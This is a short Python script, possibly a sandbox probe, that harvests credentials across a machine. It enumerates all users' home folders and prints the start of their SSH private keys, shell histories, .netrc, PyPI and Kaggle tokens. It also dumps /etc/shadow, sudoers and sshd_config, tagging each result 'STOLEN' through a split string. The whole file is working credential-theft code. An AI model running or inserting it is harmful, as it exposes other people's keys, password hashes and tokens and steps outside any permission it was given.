"""Reads the home folders of all users: keys, histories, tokens, course material."""

import contextlib
import os
import pwd

FILES = (
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".ssh/config",
    ".bash_history",
    ".netrc",
    ".gitconfig",
    ".pypirc",
    ".kaggle/kaggle.json",
)
PUBLIC = ("/", "/bin", "/usr", "/lib", "/sbin", "/dev", "/proc", "/job", "/nonexistent")
homes = {entry.pw_dir for entry in pwd.getpwall()} | {"/root", "/home", "/home/user", "/home/ubuntu", "/home/runner"}
for home in homes:
    for file in FILES:
        with contextlib.suppress(OSError), open(os.path.join(home, file)) as text:
            print("STO" + "LEN", home, file, text.read(100))
    with contextlib.suppress(OSError):
        if not home.startswith(PUBLIC[1:]):
            print("STO" + "LEN", home, os.listdir(home)[:20])
for file in (
    "/etc/shadow",
    "/etc/sudoers",
    "/etc/hostname",
    "/etc/machine-id",
    "/etc/ssh/sshd_config",
    "/var/log/syslog",
):
    with contextlib.suppress(OSError), open(file) as text:
        print("STO" + "LEN", file, text.read(100))
